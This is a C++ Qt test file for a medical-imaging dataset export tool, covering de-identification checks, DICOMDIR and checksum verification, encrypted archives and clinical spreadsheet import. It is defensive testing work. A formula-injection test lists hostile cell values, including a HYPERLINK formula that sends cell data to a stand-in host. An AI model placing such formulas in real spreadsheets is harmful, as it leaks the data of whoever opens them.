// handoff: a dataset package for a partner, judged by independent readers. The case sheet is
// read back with openpyxl (Japanese headers, real dates and numbers, frozen header, the
// incomplete mark), the DICOMDIR with pydicom's FileSet and dcmdump, the manifest with our
// verify and sha256sum's format; the gate stops an export before anything is written; the
// package never holds an original identifier or the correspondence table.

#include "StoreFixture.h"
#include "TestSupport.h"
#include "Validators.h"
#include "casework/StoreDeid.h"
#include "handoff/ClinicalImport.h"
#include "handoff/DatasetExport.h"
#include "phantom/ChestPhantom.h"
#include "storage/ClinicalRecordStore.h"
#include "storage/LabelStore.h"

#include <QDirIterator>
#include <QJsonDocument>
#include <QStringEncoder>
#include <QJsonArray>
#include <QProcess>
#include <QStandardPaths>
#include <QThread>

#include <csignal>
#include <cstdio>

using namespace rc;

namespace {

// The exporter in the kill -9 test: a real process exporting every case, slowed down (each
// progress step waits 30 ms) so that the parent can kill it in the middle.
int exportChild(const QString& storeDir, const QString& out) {
  auto fixture = test::StoreFixture::open(storeDir);
  if (!fixture) return 2;
  DatasetExportOptions o;
  o.partner = QStringLiteral("Partner K");
  o.table = fixture->deid.table.get();
  o.profile = fixture->deid.profile.get();
  o.includeUnverified = true;
  o.allowIncomplete = true;
  Progress progress([](qint64 done, qint64, const QString&) {
    std::printf("progress %lld\n", static_cast<long long>(done));
    std::fflush(stdout);
    QThread::msleep(30);
  });
  const auto exported = exportDataset(*fixture->store, out, o, progress);
  if (!exported) std::fprintf(stderr, "%s\n", qPrintable(exported.error()));
  return exported.ok() ? 0 : 1;
}

}  // namespace

class TestHandoff : public QObject {
  Q_OBJECT
  QTemporaryDir source_, storeDir_, outDir_;
  std::unique_ptr<test::StoreFixture> fixture_;
  SeriesSummary ct_, cr_;

  DatasetExportOptions options(bool includeUnverified = false, bool allowIncomplete = false) const {
    DatasetExportOptions o;
    o.partner = QStringLiteral("Partner A");
    o.purpose = QStringLiteral("lung nodule study");
    o.table = fixture_->deid.table.get();
    o.profile = fixture_->deid.profile.get();
    o.includeUnverified = includeUnverified;
    o.allowIncomplete = allowIncomplete;
    return o;
  }

  int ledgerRows() const {
    CaseDatabase db(*fixture_->store);
    return int(db.listExports().value().size());
  }

  void setSegmentVerified(bool verified) {
    CaseDatabase db(*fixture_->store);
    LabelSet labels = LabelStore(db).load(ct_.seriesUid).value()->labels;
    labels.segments[1].verified = verified;
    QVERIFY(LabelStore(db).replace(labels).ok());
  }

private slots:
  void initTestCase() {
    PhantomOptions o;
    o.matrix = 48;
    o.slices = 12;
    o.pixelSpacing = 7.0;
    o.sliceSpacing = 20.0;
    QVERIFY(writeChestPhantom(source_.path(), o).ok());
    fixture_ = test::StoreFixture::open(storeDir_.path());
    QVERIFY(fixture_);
    QCOMPARE(fixture_->import({source_.path()}).filesImported, 13);
    CaseDatabase db(*fixture_->store);
    for (const SeriesSummary& s : db.listSeries().value()) (s.modality == QLatin1String("CT") ? ct_ : cr_) = s;
    QVERIFY(!ct_.seriesUid.isEmpty() && !cr_.seriesUid.isEmpty());

    // The CT: a reader's nodule (finding with class, type, site, axes) and an AI candidate
    // nobody verified. The radiograph: read and found normal.
    LabelSet labels;
    labels.seriesInstanceUid = ct_.seriesUid;
    for (int n = 1; n <= 2; ++n) {
      Segment s;
      s.number = n;
      s.label = n == 1 ? QStringLiteral("Nodule 1") : QStringLiteral("AI candidate");
      s.category = {QStringLiteral("49755003"), QStringLiteral("SCT"), QStringLiteral("Morphologically Abnormal Structure")};
      s.type = {QStringLiteral("27925004"), QStringLiteral("SCT"), QStringLiteral("Nodule")};
      if (labels.voxels.dimensions() != std::array<int, 3>{48, 48, 12}) labels.voxels = LabelMap({48, 48, 12});
      for (int k = 4; k < 7; ++k)
        for (int j = 20; j < 25; ++j)
          for (int i = 10 + 20 * (n - 1); i < 15 + 20 * (n - 1); ++i) labels.voxels.set(n, i, j, k, true);
      if (n == 2) {
        s.algorithm = SegmentAlgorithm::Automatic;
        s.algorithmName = QStringLiteral("Nodule detector 2.1");
        s.verified = false;
      }
      labels.segments.push_back(std::move(s));
    }
    Finding f;
    f.trackingId = QStringLiteral("Nodule 1");
    f.trackingUid = QStringLiteral("2.25.424242");
    f.diseaseClass = {QStringLiteral("363358000"), QStringLiteral("SCT"), QStringLiteral("Malignant tumor of lung")};
    f.finding = {QStringLiteral("27925004"), QStringLiteral("SCT"), QStringLiteral("Nodule")};
    f.site = {QStringLiteral("42400003"), QStringLiteral("SCT"), QStringLiteral("Upper lobe of right lung")};
    f.segmentNumber = 1;
    f.longAxisMm = 18.5;
    f.shortAxisMm = 12.0;
    labels.findings.push_back(f);
    QVERIFY(LabelStore(db).replace(labels).ok());
    LabelSet normal;
    normal.seriesInstanceUid = cr_.seriesUid;
    normal.noFinding = true;
    QVERIFY(LabelStore(db).replace(normal).ok());
    // The bone-scan facts the sheet needs (EOD, metastasis).
    ClinicalRecord record;
    record.patientCode = ct_.patientCode;
    record.templateId = QStringLiteral("bone-scan");
    record.values.insert(QStringLiteral("eod"), 2);
    record.values.insert(QStringLiteral("metastasis"), QStringLiteral("yes"));
    record.values.insert(QStringLiteral("height"), 171.5);
    record.values.insert(QStringLiteral("bsi"), 1.25);
    QVERIFY(ClinicalRecordStore(db).save(record).ok());
  }

  void theGateStopsBeforeAnythingIsWritten() {
    const QString target = outDir_.filePath(QStringLiteral("refused"));
    const auto refused = exportDataset(*fixture_->store, target, options());
    QVERIFY(!refused.ok());
    QVERIFY2(refused.error().contains(QStringLiteral("AI candidate")) && refused.error().contains(QStringLiteral("Nodule detector 2.1")) &&
                 refused.error().contains(ct_.patientCode),
             qPrintable(refused.error()));
    QVERIFY(!QFileInfo::exists(target));
    QCOMPARE(QDir(outDir_.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot).size(), 0);
    QCOMPARE(ledgerRows(), 0);
  }

  void aVerifiedDatasetIsReadByIndependentTools() {
    RC_REQUIRE_PYDICOM();
    setSegmentVerified(true);
    const QString target = outDir_.filePath(QStringLiteral("package"));
    const auto exported = exportDataset(*fixture_->store, target, options());
    QVERIFY2(exported.ok(), qPrintable(exported.error()));
    QCOMPARE(exported->patients, 1);
    QCOMPARE(exported->studies, 2);
    QCOMPARE(exported->files, 13 + 3);  // the images, the CT's SEG and SR, the radiograph's "no finding" SR
    QVERIFY(exported->missing.empty());
    QCOMPARE(ledgerRows(), 1);

    const QJsonObject seen = test::runPythonOracle(QStringLiteral("package_oracle.py"), {target}).object();
    QVERIFY(!seen.isEmpty());
    const QJsonArray rows = seen.value(QStringLiteral("rows")).toArray();
    QCOMPARE(rows.size(), 3);  // the header and two exams
    const QJsonArray header = rows.at(0).toArray();
    const QStringList expectedHeader = {QStringLiteral("患者符号"), QStringLiteral("検査日"), QStringLiteral("所見"), QStringLiteral("EOD"),
                                        QStringLiteral("転移の有無"), QStringLiteral("年齢"), QStringLiteral("性別"), QStringLiteral("身長"),
                                        QStringLiteral("体重")};
    for (int c = 0; c < expectedHeader.size(); ++c) QCOMPARE(header.at(c).toString(), expectedHeader[c]);
    // The chest sheet template's columns after I: five of the findings, five of the record.
    QCOMPARE(header.size(), 9 + 10);
    QCOMPARE(header.at(9).toString(), QStringLiteral("疾患分類"));
    const QJsonArray radiograph = rows.at(1).toArray(), ct = rows.at(2).toArray();
    QCOMPARE(radiograph.at(0).toString(), ct_.patientCode);
    const QString crDate = QDate::fromString(cr_.studyDate, QStringLiteral("yyyyMMdd")).toString(Qt::ISODate);
    QCOMPARE(radiograph.at(1).toObject().value(QStringLiteral("date")).toString(), crDate);  // a real date
    QCOMPARE(radiograph.at(2).toString(), QStringLiteral("所見なし"));
    QCOMPARE(ct.at(2).toString(), QStringLiteral("肺癌, 結節, 右上葉, 18.5 x 12.0 mm"));
    QCOMPARE(ct.at(3).toObject().value(QStringLiteral("number")).toDouble(), 2.0);  // EOD, a number
    QCOMPARE(ct.at(4).toString(), QStringLiteral("あり"));
    QVERIFY(ct.at(5).toObject().contains(QStringLiteral("number")));  // the age the site profile kept
    QCOMPARE(ct.at(7).toObject().value(QStringLiteral("number")).toDouble(), 171.5);  // the record's height wins
    QCOMPARE(ct.at(12).toObject().value(QStringLiteral("number")).toDouble(), 18.5);
    QCOMPARE(seen.value(QStringLiteral("freeze")).toString(), QStringLiteral("A2"));
    QCOMPARE(seen.value(QStringLiteral("keywords")).toString(), QStringLiteral("complete"));

    // The DICOMDIR lists every DICOM file of the package, SEG and SR included.
    const QJsonArray instances = seen.value(QStringLiteral("instances")).toArray();
    QCOMPARE(instances.size(), exported->files);
    QSet<QString> modalities;
    for (const QJsonValue& i : instances) modalities.insert(i.toObject().value(QStringLiteral("modality")).toString());
    QVERIFY(modalities.contains(QStringLiteral("SEG")) && modalities.contains(QStringLiteral("SR")) && modalities.contains(QStringLiteral("CT")));
    QProcess dcmdump;
    dcmdump.start(QStringLiteral("dcmdump"), {QDir(target).filePath(QStringLiteral("DICOMDIR"))});
    QVERIFY(dcmdump.waitForFinished(30000));
    QCOMPARE(dcmdump.exitCode(), 0);
    QCOMPARE(int(dcmdump.readAllStandardOutput().count("ReferencedFileID")), exported->files);

    // The CSV starts with the BOM; the manifest is sha256sum's format and the package is intact.
    QFile csv(QDir(target).filePath(QStringLiteral("case-sheet.csv")));
    QVERIFY(csv.open(QIODevice::ReadOnly));
    QVERIFY(csv.readAll().startsWith("\xEF\xBB\xBF\xE6\x82\xA3"));  // BOM, then 患
    QProcess sha;
    sha.setWorkingDirectory(target);
    sha.start(QStringLiteral("sha256sum"), {QStringLiteral("-c"), QStringLiteral("--quiet"), QStringLiteral("MANIFEST.sha256")});
    QVERIFY(sha.waitForFinished(30000));
    QCOMPARE(sha.exitCode(), 0);
    QVERIFY(verifyPackage(target).value().isEmpty());

    // No byte of the package holds an original identifier or the correspondence table.
    QFile table(QDir(storeDir_.path()).filePath(QStringLiteral("correspondence/table.rcsec")));
    QVERIFY(table.open(QIODevice::ReadOnly));
    const QByteArray tableBytes = table.readAll().left(256);
    QDirIterator it(target, QDir::Files, QDirIterator::Subdirectories);
    int files = 0;
    while (it.hasNext()) {
      QFile f(it.next());
      QVERIFY(f.open(QIODevice::ReadOnly));
      const QByteArray bytes = f.readAll();
      ++files;
      for (const QByteArray& secret : {QByteArray("DEMO-0001"), QByteArray("YAMADA"), QStringLiteral("山田").toUtf8(), tableBytes})
        QVERIFY2(!bytes.contains(secret), qPrintable(it.filePath()));
    }
    QCOMPARE(files, exported->files + 5);  // + DICOMDIR, the two sheets, README, MANIFEST

    // One flipped byte is found and named.
    const QString victim = QDir(target).filePath(instances.at(3).toObject().value(QStringLiteral("path")).toString());
    QFile v(victim);
    QVERIFY(v.open(QIODevice::ReadWrite));
    v.seek(v.size() - 1);
    char last = 0;
    v.getChar(&last);
    v.seek(v.size() - 1);
    v.putChar(char(last ^ 0x01));
    v.close();
    const QStringList problems = verifyPackage(target).value();
    QCOMPARE(problems.size(), 1);
    QVERIFY2(problems.front().contains(QDir(target).relativeFilePath(victim)), qPrintable(problems.front()));

    // Never over an existing package.
    QVERIFY(!exportDataset(*fixture_->store, target, options()).ok());
  }

  void anEncryptedArchiveOpensOnlyWithItsPassword() {
    const QString archive = outDir_.filePath(QStringLiteral("dataset.zip"));
    DatasetExportOptions o = options();
    o.zipPassword = QStringLiteral("correct horse 42");
    const auto exported = exportDataset(*fixture_->store, archive, o);
    QVERIFY2(exported.ok(), qPrintable(exported.error()));
    QVERIFY(QFileInfo(archive).isFile());
    // No plain copy anywhere: beside the archive, or left in the store's scratch folder.
    QCOMPARE(QDir(outDir_.path()).entryList({QStringLiteral(".dataset*")}, QDir::AllEntries | QDir::Hidden).size(), 0);
    QCOMPARE(QDir(fixture_->store->temporaryDirectory()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot).size(), 0);
    const auto intact = verifyPackage(archive, o.zipPassword);
    QVERIFY2(intact.ok() && intact->isEmpty(), qPrintable(intact.ok() ? intact->join(QLatin1Char('\n')) : intact.error()));
    const auto wrong = verifyPackage(archive, QStringLiteral("wrong password!"));
    QVERIFY(!wrong.ok());
    QVERIFY2(wrong.error().contains(QStringLiteral("password")), qPrintable(wrong.error()));
    // Another tool with AES support (7-Zip) opens it with the password, and not without.
    if (QStandardPaths::findExecutable(QStringLiteral("7z")).isEmpty()) QSKIP("7z (p7zip-full) is not installed");
    QProcess sevenZip;
    sevenZip.start(QStringLiteral("7z"), {QStringLiteral("t"), QStringLiteral("-pcorrect horse 42"), archive});
    QVERIFY(sevenZip.waitForFinished(60000));
    QCOMPARE(sevenZip.exitCode(), 0);
    QVERIFY(sevenZip.readAllStandardOutput().contains("Everything is Ok"));
    sevenZip.start(QStringLiteral("7z"), {QStringLiteral("t"), QStringLiteral("-pwrong"), archive});
    QVERIFY(sevenZip.waitForFinished(60000));
    QVERIFY(sevenZip.exitCode() != 0);
  }

  // kill -9 in the middle of an export: nothing under the package's name, no ledger row; the
  // same export then succeeds.
  void aKilledExportLeavesNoPackageAndNoLedgerRow() {
    const QString target = outDir_.filePath(QStringLiteral("killed"));
    const int before = ledgerRows();
    fixture_.reset();  // the correspondence table admits one process at a time: the child's turn
    QProcess child;
    child.start(QCoreApplication::applicationFilePath(), {QStringLiteral("--export-child"), storeDir_.path(), target});
    QVERIFY(child.waitForStarted(10000));
    int lastProgress = -1;
    QByteArray pending;
    while (lastProgress < 30 && child.waitForReadyRead(20000)) {
      pending += child.readAllStandardOutput();
      int newline;
      while ((newline = int(pending.indexOf('\n'))) >= 0) {
        if (pending.startsWith("progress ")) lastProgress = pending.mid(9, newline - 9).toInt();
        pending.remove(0, newline + 1);
      }
    }
    QVERIFY2(lastProgress >= 30 && lastProgress < 80,
             qPrintable(QStringLiteral("%1 %2 [%3] state %4").arg(lastProgress).arg(QString::fromLocal8Bit(child.readAllStandardError()), QString::fromLocal8Bit(pending)).arg(int(child.state()))));  // amid the images
    QCOMPARE(::kill(pid_t(child.processId()), SIGKILL), 0);
    QVERIFY(child.waitForFinished(10000));
    fixture_ = test::StoreFixture::open(storeDir_.path());
    QVERIFY(fixture_);
    QVERIFY(!QFileInfo::exists(target));
    QCOMPARE(ledgerRows(), before);
    // What it left is hidden and named partial; nothing looks like a package.
    for (const QString& left : QDir(outDir_.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot))
      if (left.contains(QStringLiteral("killed"))) QVERIFY2(left.startsWith(QLatin1Char('.')) && left.contains(QStringLiteral(".partial-")), qPrintable(left));
    DatasetExportOptions o = options(true, true);
    const auto again = exportDataset(*fixture_->store, target, o);
    QVERIFY2(again.ok(), qPrintable(again.error()));
    QCOMPARE(ledgerRows(), before + 1);
  }

  // A vendor's presentation state and private object (Philips DWI sample) cannot be listed
  // in a general-purpose DICOMDIR: they stay home with the reason, and the images go.
  void whatADicomDirCannotListStaysHomeWithTheReason() {
    RC_REQUIRE_SAMPLE(QStringLiteral("mr-dwi-adc/philips_dwi_classic_and_enhanced/In/cl/DICOM"));
    QTemporaryDir store, out;
    const auto fixture = test::StoreFixture::open(store.path());
    QVERIFY(fixture);
    QVERIFY(fixture->import({test::samplePath(QStringLiteral("mr-dwi-adc/philips_dwi_classic_and_enhanced/In/cl/DICOM"))}).filesImported > 0);
    DatasetExportOptions o;
    o.partner = QStringLiteral("Partner A");
    o.table = fixture->deid.table.get();
    o.profile = fixture->deid.profile.get();
    o.allowIncomplete = true;
    {
      // The gate holds back images with possible burned-in text; a reader confirms them here.
      CaseDatabase db(*fixture->store);
      for (const SeriesSummary& s : db.listSeries().value())
        for (const InstanceRecord& r : db.instancesOfSeries(s.seriesUid).value())
          if (!r.burnedInRisk.isEmpty()) QVERIFY(confirmNoBurnedInText(*fixture->store, r.sopInstanceUid).ok());
    }
    const auto exported = exportDataset(*fixture->store, out.filePath(QStringLiteral("mr")), o);
    QVERIFY2(exported.ok(), qPrintable(exported.error()));
    QVERIFY(!exported->leftOut.isEmpty());
    for (const QString& left : exported->leftOut) QVERIFY2(left.contains(QStringLiteral("SOP class")), qPrintable(left));
    QVERIFY(verifyPackage(exported->path).value().isEmpty());  // the DICOMDIR lists every file that went
    QFile readme(QDir(exported->path).filePath(QStringLiteral("README.txt")));
    QVERIFY(readme.open(QIODevice::ReadOnly));
    QVERIFY(readme.readAll().contains("Left out"));
  }

  // The hospital's clinical spreadsheet: CSV in Shift_JIS and in UTF-8 with BOM, .xlsx made
  // by openpyxl keyed by the original patient ID (looked up in the table, stored nowhere).
  void clinicalSpreadsheetsComeIn() {
    const QString csv = QStringLiteral("患者符号,年齢,喫煙,身長,体重\r\n%1,67,現在あり,170,61.5\r\nRC-999999,50,なし,160,50\r\n%1,六十,,,\r\n")
                            .arg(ct_.patientCode);
    QStringEncoder toSjis("Shift_JIS");
    QVERIFY(toSjis.isValid());
    const QByteArray sjisBytes = toSjis(csv);
    QVERIFY(!sjisBytes.contains(csv.toUtf8().mid(0, 6)));  // really not UTF-8
    const QString sjisPath = outDir_.filePath(QStringLiteral("clinical-sjis.csv"));
    QFile f(sjisPath);
    QVERIFY(f.open(QIODevice::WriteOnly) && f.write(sjisBytes) == sjisBytes.size());
    f.close();
    const auto sheet = readSpreadsheet(sjisPath);
    QVERIFY2(sheet.ok(), qPrintable(sheet.error()));
    QCOMPARE(sheet->header.value(0), QStringLiteral("患者符号"));
    const auto mapping = ClinicalMapping::guess(sheet.value(), QStringLiteral("chest"));
    QVERIFY2(mapping.ok(), qPrintable(mapping.error()));
    QCOMPARE(int(mapping->fields.size()), 4);
    auto report = importClinicalData(*fixture_->store, nullptr, sheet.value(), mapping.value(), false);
    QVERIFY2(report.ok(), qPrintable(report.error()));
    // Height was 171.5 in the record: shown, kept. The unknown patient and the bad age listed.
    QCOMPARE(int(report->conflicts.size()), 1);
    QCOMPARE(report->conflicts.front().field, QStringLiteral("height"));
    QCOMPARE(report->conflicts.front().oldValue, QStringLiteral("171.5"));
    QCOMPARE(report->conflicts.front().newValue, QStringLiteral("170"));
    QCOMPARE(int(report->unmatched.size()), 1);
    QCOMPARE(report->unmatched.front().row, 2);
    QCOMPARE(int(report->invalid.size()), 1);
    QCOMPARE(report->invalid.front().row, 3);
    {
      CaseDatabase db(*fixture_->store);
      const ClinicalRecord r = ClinicalRecordStore(db).load(ct_.patientCode).value().value();
      QCOMPARE(r.values.value(QStringLiteral("age")).toDouble(), 67.0);
      QCOMPARE(r.values.value(QStringLiteral("smoking")).toString(), QStringLiteral("current"));
      QCOMPARE(r.values.value(QStringLiteral("weight")).toDouble(), 61.5);
      QCOMPARE(r.values.value(QStringLiteral("height")).toDouble(), 171.5);  // not overwritten
    }
    // UTF-8 with BOM, and the explicit overwrite.
    const QString utf8Path = outDir_.filePath(QStringLiteral("clinical-utf8.csv"));
    QFile g(utf8Path);
    QVERIFY(g.open(QIODevice::WriteOnly));
    g.write("\xEF\xBB\xBF" + csv.toUtf8());
    g.close();
    report = importClinicalData(*fixture_->store, nullptr, readSpreadsheet(utf8Path).value(), mapping.value(), true);
    QVERIFY(report.ok());
    QCOMPARE(int(report->updated.size()), 1);  // only the height differs now
    QCOMPARE(report->updated.front().newValue, QStringLiteral("170"));

    // .xlsx from openpyxl, rows keyed by the original patient ID.
    RC_REQUIRE_PYDICOM();
    const QString xlsx = outDir_.filePath(QStringLiteral("clinical.xlsx"));
    QProcess python;
    python.start(QStringLiteral("/usr/bin/python3"), {QDir(test::testToolsDir()).filePath(QStringLiteral("make_clinical_xlsx.py")), xlsx,
                                                      QStringLiteral("DEMO-0001")});
    QVERIFY(python.waitForFinished(30000));
    if (python.exitCode() != 0) QSKIP("python3-openpyxl is not installed");
    const auto book = readSpreadsheet(xlsx);
    QVERIFY2(book.ok(), qPrintable(book.error()));
    QCOMPARE(book->header, (QStringList{QStringLiteral("患者ID"), QStringLiteral("体重"), QStringLiteral("既往歴"), QStringLiteral("初診日")}));
    QCOMPARE(book->rows.at(0).value(3), QStringLiteral("2025-04-01"));  // a real date cell
    QCOMPARE(book->rows.at(0).value(1), QStringLiteral("61.5"));
    ClinicalMapping byId;
    byId.keyColumn = QStringLiteral("患者ID");
    byId.key = ClinicalMapping::Key::OriginalPatientId;
    byId.fields = {{QStringLiteral("既往歴"), QStringLiteral("history")}};
    QVERIFY(!importClinicalData(*fixture_->store, nullptr, book.value(), byId, false).ok());  // the table is needed
    report = importClinicalData(*fixture_->store, fixture_->deid.table.get(), book.value(), byId, false);
    QVERIFY2(report.ok(), qPrintable(report.error()));
    QCOMPARE(int(report->updated.size()), 1);
    QCOMPARE(report->updated.front().patientCode, ct_.patientCode);
    QCOMPARE(int(report->unmatched.size()), 1);
    QVERIFY(!report->unmatched.front().reason.contains(QStringLiteral("UNKNOWN-42")));  // IDs are not repeated
    CaseDatabase db(*fixture_->store);
    for (const ClinicalRecord& r : ClinicalRecordStore(db).all().value())
      QVERIFY(!QJsonDocument(r.values).toJson().contains("DEMO-0001"));
  }

  void anIncompleteSheetIsRefusedOrMarked() {
    RC_REQUIRE_PYDICOM();
    {
      CaseDatabase db(*fixture_->store);
      ClinicalRecord record = ClinicalRecordStore(db).load(ct_.patientCode).value().value();
      record.values.remove(QStringLiteral("eod"));
      QVERIFY(ClinicalRecordStore(db).save(record).ok());
    }
    const int before = ledgerRows();
    const auto refused = exportDataset(*fixture_->store, outDir_.filePath(QStringLiteral("incomplete")), options());
    QVERIFY(!refused.ok());
    QVERIFY2(refused.error().contains(QStringLiteral("row 1, column D EOD")) && refused.error().contains(QStringLiteral("row 2, column D EOD")),
             qPrintable(refused.error()));
    QCOMPARE(ledgerRows(), before);
    DatasetExportOptions boneScan = options(false, true);
    boneScan.sheetColumns = SheetTemplate::builtIn(QStringLiteral("bone-scan")).value();
    const auto marked = exportDataset(*fixture_->store, outDir_.filePath(QStringLiteral("incomplete")), boneScan);
    QVERIFY2(marked.ok(), qPrintable(marked.error()));
    QCOMPARE(int(marked->missing.size()), 2);
    const QJsonObject seen = test::runPythonOracle(QStringLiteral("package_oracle.py"), {marked->path}).object();
    QCOMPARE(seen.value(QStringLiteral("keywords")).toString(), QStringLiteral("incomplete"));
    const QJsonArray rows = seen.value(QStringLiteral("rows")).toArray();
    QVERIFY(rows.last().toArray().at(0).toString().startsWith(QStringLiteral("不完全")));
    // The bone-scan template's columns: the record's BSI as a number.
    const QJsonArray header = rows.at(0).toArray();
    int bsi = -1;
    for (int c = 0; c < header.size(); ++c)
      if (header.at(c).toString().startsWith(QStringLiteral("BSI"))) bsi = c;
    QVERIFY(bsi > 8);
    QCOMPARE(rows.at(2).toArray().at(bsi).toObject().value(QStringLiteral("number")).toDouble(), 1.25);
    QCOMPARE(ledgerRows(), before + 1);
    CaseDatabase db(*fixture_->store);
    QVERIFY(db.listExports().value().back().note.contains(QStringLiteral("INCOMPLETE")));
  }

  // Nothing a partner opens can run: formula-like text is text in the .csv (a leading
  // apostrophe) and a string cell in the .xlsx, as Python's csv module and openpyxl read them.
  void formulaCellsStayText() {
    RC_REQUIRE_PYDICOM();
    const QStringList hostile = {QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"), QStringLiteral("+1+1"),
                                 QStringLiteral("-2+3"), QStringLiteral("@SUM(1,2)"), QStringLiteral("\tTAB"), QStringLiteral("\rCR"),
                                 QStringLiteral("=1+1"), QStringLiteral("plain, text")};
    CaseSheet sheet;
    sheet.columns.push_back({QStringLiteral("text"), QStringLiteral("テキスト"), QStringLiteral("Text"), false});
    for (const QString& h : hostile) sheet.rows.push_back({QStringLiteral("RC-000001"), QString(), {QVariant(h)}});
    const QString csv = outDir_.filePath(QStringLiteral("formulas.csv")), xlsx = outDir_.filePath(QStringLiteral("formulas.xlsx"));
    QVERIFY(writeCaseSheetCsv(sheet, csv, false, false).ok());
    QVERIFY(writeCaseSheetXlsx(sheet, xlsx, false, false).ok());
    QString error;
    const QJsonObject seen = test::runPythonOracle(QStringLiteral("sheet_cells_oracle.py"), {csv, xlsx}, &error).object();
    if (seen.isEmpty()) QSKIP(qPrintable(QStringLiteral("python3-openpyxl: %1").arg(error)));
    const QJsonArray csvRows = seen.value(QStringLiteral("csv")).toArray();
    const QJsonArray xlsxRows = seen.value(QStringLiteral("xlsx")).toArray();
    QCOMPARE(csvRows.size(), hostile.size() + 1);
    for (int r = 0; r < hostile.size(); ++r) {
      const QString& h = hostile[r];
      const bool formulaLike = QStringLiteral("=+-@\t\r").contains(h.front());
      QCOMPARE(csvRows.at(r + 1).toArray().at(0).toString(), formulaLike ? QLatin1Char('\'') + h : h);
      const QJsonObject cell = xlsxRows.at(r + 1).toArray().at(0).toObject();
      QCOMPARE(cell.value(QStringLiteral("type")).toString(), QStringLiteral("s"));
      QCOMPARE(cell.value(QStringLiteral("value")).toString(), h);
    }
  }

  // Cells no spreadsheet keeps whole, and cells that name a patient in any spelling, stop the
  // export before anything is written; the sheet's row and column are named.
  void unwritableOrIdentifyingCellsStopTheExport_data() {
    QTest::addColumn<QString>("value");
    QTest::addColumn<QString>("reason");
    QTest::newRow("over 32,767 characters") << QString(40000, QLatin1Char('x')) << QStringLiteral("40000 characters");
    QTest::newRow("NUL") << QStringLiteral("before") + QChar(0) + QStringLiteral("after") << QStringLiteral("NUL");
    QTest::newRow("full-width patient ID") << QStringLiteral("紹介元ＩＤ：ＤＥＭＯ－０００１") << QStringLiteral("contains an identifier of patient");
    QTest::newRow("patient ID, no hyphen") << QStringLiteral("see demo0001") << QStringLiteral("contains an identifier of patient");
  }
  void unwritableOrIdentifyingCellsStopTheExport() {
    QFETCH(QString, value);
    QFETCH(QString, reason);
    setSegmentVerified(true);
    ClinicalRecord saved;
    {
      CaseDatabase db(*fixture_->store);
      saved = ClinicalRecordStore(db).load(ct_.patientCode).value().value();
      ClinicalRecord record = saved;
      record.values.insert(QStringLiteral("pathology"), value);
      QVERIFY(ClinicalRecordStore(db).save(record).ok());
    }
    const int before = ledgerRows();
    const QString target = outDir_.filePath(QStringLiteral("cells"));
    const auto refused = exportDataset(*fixture_->store, target, options(false, true));
    {
      CaseDatabase db(*fixture_->store);
      ClinicalRecord record = ClinicalRecordStore(db).load(ct_.patientCode).value().value();
      record.values = saved.values;
      QVERIFY(ClinicalRecordStore(db).save(record).ok());
    }
    QVERIFY(!refused.ok());
    QVERIFY2(refused.error().contains(QStringLiteral("row 1, column ")) && refused.error().contains(QStringLiteral("病理診断")) &&
                 refused.error().contains(reason),
             qPrintable(refused.error().left(400)));
    QVERIFY(!refused.error().contains(QStringLiteral("DEMO")));  // the identifier is not repeated
    QVERIFY(!QFileInfo::exists(target));
    QCOMPARE(ledgerRows(), before);
  }

  // Spreadsheets in are bounded and honest: every class of damage is an error that names the
  // file and the part or cell; nothing is guessed, nothing allocates the grid it claims.
  void hostileSpreadsheetsAreNamed_data() {
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("expected");
    QTest::newRow("row two billion") << QStringLiteral("giant-row.xlsx") << QStringLiteral("row number \"2000000000\"");
    QTest::newRow("past XFD") << QStringLiteral("past-xfd.xlsx") << QStringLiteral("cell XFE2");
    QTest::newRow("letters overflow") << QStringLiteral("overflowing-letters.xlsx") << QStringLiteral("not a cell reference");
    QTest::newRow("shared index overflow") << QStringLiteral("shared-index-overflow.xlsx") << QStringLiteral("shared string 99999999999999999999999 does not exist");
    QTest::newRow("shared index negative") << QStringLiteral("shared-index-negative.xlsx") << QStringLiteral("shared string -1 does not exist");
    QTest::newRow("shared index past end") << QStringLiteral("shared-index-past-end.xlsx") << QStringLiteral("shared string 3 does not exist");
    QTest::newRow("serial date overflow") << QStringLiteral("serial-date-overflow.xlsx") << QStringLiteral("not a date Excel can show");
    QTest::newRow("shared strings cut") << QStringLiteral("shared-truncated.xlsx") << QStringLiteral("xl/sharedStrings.xml is damaged");
    QTest::newRow("shared strings entities") << QStringLiteral("shared-entities.xlsx") << QStringLiteral("a DTD");
    QTest::newRow("BOM, then not UTF-8") << QStringLiteral("bom-then-latin1.csv") << QStringLiteral("holds bytes that are not UTF-8");
  }
  void hostileSpreadsheetsAreNamed() {
    QFETCH(QString, file);
    QFETCH(QString, expected);
    const QString dir = hostileSheets();
    if (dir.isEmpty()) QSKIP("python3 could not write the hostile sheets");
    const auto read = readSpreadsheet(QDir(dir).filePath(file));
    QVERIFY2(!read.ok(), qPrintable(file));
    QVERIFY2(read.error().contains(file) && read.error().contains(expected), qPrintable(read.error()));
  }

  void sparseSheetCostsItsCells() {
    const QString dir = hostileSheets();
    if (dir.isEmpty()) QSKIP("python3 could not write the hostile sheets");
    const auto read = readSpreadsheet(QDir(dir).filePath(QStringLiteral("sparse-edges.xlsx")));
    QVERIFY2(read.ok(), qPrintable(read.error()));
    QCOMPARE(read->header, (QStringList{QStringLiteral("patient_code"), QStringLiteral("age")}));
    QCOMPARE(int(read->rows.size()), 1);
    QCOMPARE(read->rows[0].number, 1048575);  // below the header in row 1
    QCOMPARE(int(read->rows[0].cells.size()), 2);
    QCOMPARE(read->rows[0].value(0), QStringLiteral("RC-000001"));
    QCOMPARE(read->rows[0].value(16383), QStringLiteral("42"));
    QCOMPARE(read->rows[0].value(1), QString());
  }

private:
  QString hostileSheets() {
    if (hostileSheets_.isEmpty()) {
      QProcess python;
      python.start(QStringLiteral("/usr/bin/python3"),
                   {QDir(test::testToolsDir()).filePath(QStringLiteral("hostile_sheets.py")), outDir_.filePath(QStringLiteral("hostile-sheets"))});
      if (python.waitForFinished(60000) && python.exitCode() == 0) hostileSheets_ = outDir_.filePath(QStringLiteral("hostile-sheets"));
    }
    return hostileSheets_;
  }
  QString hostileSheets_;
};

int main(int argc, char** argv) {
  QCoreApplication app(argc, argv);
